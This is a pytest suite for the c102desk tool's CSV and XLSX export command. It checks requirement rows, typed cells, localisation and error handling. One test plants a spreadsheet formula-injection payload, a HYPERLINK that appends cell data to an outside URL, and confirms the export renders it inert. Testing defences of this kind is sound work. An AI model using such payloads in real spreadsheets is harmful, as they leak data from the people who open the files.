# mypy: disable-error-code="import-untyped"
# (openpyxl ships no type information)
"""``c102desk export ID --format csv|xlsx``: one row per requirement, a sheet of answers, typed cells, read back
with openpyxl and the csv module; text a spreadsheet would run is never a formula."""

from __future__ import annotations

import csv
import datetime as dt
import json
from pathlib import Path
from typing import Any

import openpyxl
import pytest

from c102desk.cli import main
from c102desk.exports.csv_files import csv_paths
from c102desk.resources import resource_path

EXAMPLE = resource_path("examples", "midland-three-parts.c102.json")


def import_example(data_dir: Path, tmp_path: Path, **changes: Any) -> str:
    raw = json.loads(EXAMPLE.read_text(encoding="utf-8"))
    raw.update(changes)
    source = tmp_path / "in.c102.json"
    source.write_text(json.dumps(raw), encoding="utf-8")
    assert main(["import", str(source), "--data-dir", str(data_dir)]) == 0
    from c102desk.store import Store

    with Store.open(data_dir) as store:
        return store.list_assessments()[0].id


def read_csv(path: Path) -> list[dict[str, str]]:
    with path.open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def evaluation_of(source: Path) -> dict[str, Any]:
    from c102desk.assessment import read_assessment
    from c102desk.engine import evaluate

    assessment = read_assessment(source)
    return evaluate(assessment.answers, assessment.questionnaire).to_json("en")


def test_xlsx_has_a_row_per_requirement_and_typed_cells(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    assessment_id = import_example(data_dir, tmp_path, country="Senegal")
    out = tmp_path / "midland.xlsx"
    assert main(["export", assessment_id, "--format", "xlsx", "--out", str(out), "--data-dir", str(data_dir)]) == 0
    book = openpyxl.load_workbook(out)
    assert book.sheetnames == ["assessments", "requirements", "figures", "answers"]
    sheet = book["requirements"]
    header = [c.value for c in sheet[1]]
    rows = [dict(zip(header, r, strict=True)) for r in sheet.iter_rows(min_row=2, values_only=True)]
    evaluation = evaluation_of(EXAMPLE)
    expected = sum(len(p["requirements"]) for p in evaluation["parts"].values())
    expected += len(evaluation["ratification"]["requirements"])
    assert len(rows) == expected
    coverage = next(r for r in rows if r["requirement_id"] == "II.COV.A")
    assert coverage["country"] == "Senegal" and coverage["region"] == "Africa" and coverage["part"] == "II"
    assert coverage["status"] == "met" and coverage["article"] == "9(a)"
    assert coverage["figure"] == pytest.approx(87.5) and coverage["threshold"] == 50
    assert coverage["superseded"] is False and isinstance(coverage["informational"], bool)
    assert isinstance(coverage["date"], dt.datetime)
    cells = {c.column_letter: c for c in sheet[2]}
    date_cell = cells[openpyxl.utils.get_column_letter(header.index("date") + 1)]
    assert date_cell.is_date and date_cell.number_format == "yyyy-mm-dd"
    statuses = {r["status"] for r in rows}
    assert statuses <= {"met", "not_met", "needs_review", "insufficient_information", "not_applicable"}
    # the statuses of requirements and Parts are those of the engine's evaluation
    level = next(r for r in rows if r["requirement_id"] == "III.LVL")
    assert level["status"] == "not_met" and level["part_status"] == evaluation["parts"]["III"]["status"]
    assert level["figure_name"].endswith("replacement_percent") and isinstance(level["figure"], float)
    answers = book["answers"]
    header = [c.value for c in answers[1]]
    by_id = {r[header.index("question_id")]: dict(zip(header, r, strict=True))
             for r in answers.iter_rows(min_row=2, values_only=True)}
    source = json.loads(EXAMPLE.read_text(encoding="utf-8"))["answers"]
    assert set(by_id) == set(source)
    assert by_id["I.stats.employees"]["value"] == source["I.stats.employees"]
    assert by_id["I.stats.employees"]["type"] == "number" and by_id["I.stats.employees"]["unit"] == "persons"
    assert by_id["I.art3.declaration"]["value"] is False
    assessments = list(book["assessments"].iter_rows(values_only=True))
    assert len(assessments) == 2
    row = dict(zip(assessments[0], assessments[1], strict=True))
    assert row["ratification"] == "possible" and row["part_II"] == "compliant" and row["revision"] == 1
    assert row["iso_code"] == "SN"


def test_csv_writes_the_requirements_and_the_answers_beside_them(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    assessment_id = import_example(data_dir, tmp_path, country="Chile")
    out = tmp_path / "chile.csv"
    assert main(["export", assessment_id, "--format", "csv", "--out", str(out), "--lang", "es",
                 "--data-dir", str(data_dir)]) == 0
    paths = csv_paths(out)
    assert paths["requirements"] == out and paths["answers"] == tmp_path / "chile-answers.csv"
    assert all(p.is_file() for p in paths.values())
    assert out.read_bytes().startswith(b"\xef\xbb\xbf")  # UTF-8 with a byte-order mark
    rows = read_csv(out)
    coverage = next(r for r in rows if r["requirement_id"] == "II.COV.A")
    assert coverage["figure"] == "87.5" and coverage["threshold"] == "50" and coverage["superseded"] == "false"
    assert coverage["region"] == "Américas" and coverage["status"] == "met"
    assert dt.date.fromisoformat(coverage["date"])
    answers = {r["question_id"]: r for r in read_csv(paths["answers"])}
    assert answers["I.art3.declaration"]["value"] == "false"
    assert answers["I.stats.employees"]["value"] == "2400000"
    assert not list(tmp_path.glob(".*.tmp"))


def test_text_that_would_be_a_formula_is_inert(tmp_path: Path) -> None:
    data_dir = tmp_path / "data"
    attack = '=HYPERLINK("http://example.org/?"&A1,"click")'
    assessment_id = import_example(data_dir, tmp_path, country=attack, title="+1 @SUM(A1) -2")
    xlsx, csv_out = tmp_path / "a.xlsx", tmp_path / "a.csv"
    for out, fmt in ((xlsx, "xlsx"), (csv_out, "csv")):
        assert main(["export", assessment_id, "--format", fmt, "--out", str(out), "--data-dir", str(data_dir)]) == 0
    book = openpyxl.load_workbook(xlsx)
    for sheet in book:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
    first = book["requirements"]["C2"]
    assert first.value == attack and first.data_type == "s" and first.quotePrefix
    rows = read_csv(csv_out)
    assert rows[0]["country"] == "'" + attack
    assessment = read_csv(csv_paths(csv_out)["assessments"])[0]
    assert assessment["title"] == "'+1 @SUM(A1) -2"
    # numbers are not guarded: a negative figure stays a number
    from c102desk.exports.csv_files import text_of

    assert text_of(-2) == "-2" and text_of("-2") == "'-2"


def test_unknown_id_and_unwritable_target_exit_2_and_write_nothing(tmp_path: Path,
                                                                   capsys: pytest.CaptureFixture[str]) -> None:
    data_dir = tmp_path / "data"
    assessment_id = import_example(data_dir, tmp_path)
    capsys.readouterr()
    assert main(["export", "no-such-id", "--format", "xlsx", "--out", str(tmp_path / "x.xlsx"),
                 "--data-dir", str(data_dir)]) == 2
    assert main(["export", assessment_id, "--format", "csv", "--out", str(tmp_path / "missing" / "x.csv"),
                 "--data-dir", str(data_dir)]) == 2
    err = capsys.readouterr().err
    assert "Traceback" not in err and "does not exist" in err
    assert main(["export", assessment_id, "--format", "xlsx", "--out", str(tmp_path),
                 "--data-dir", str(data_dir)]) == 2
    assert not list(tmp_path.glob("*.xlsx")) and not list(tmp_path.glob("*.csv"))
    assert main(["export", assessment_id, "--out", str(tmp_path / "plain.c102.json"), "--data-dir",
                 str(data_dir)]) == 0  # json stays the default
    assert json.loads((tmp_path / "plain.c102.json").read_text(encoding="utf-8"))["format"] == "c102-assessment"
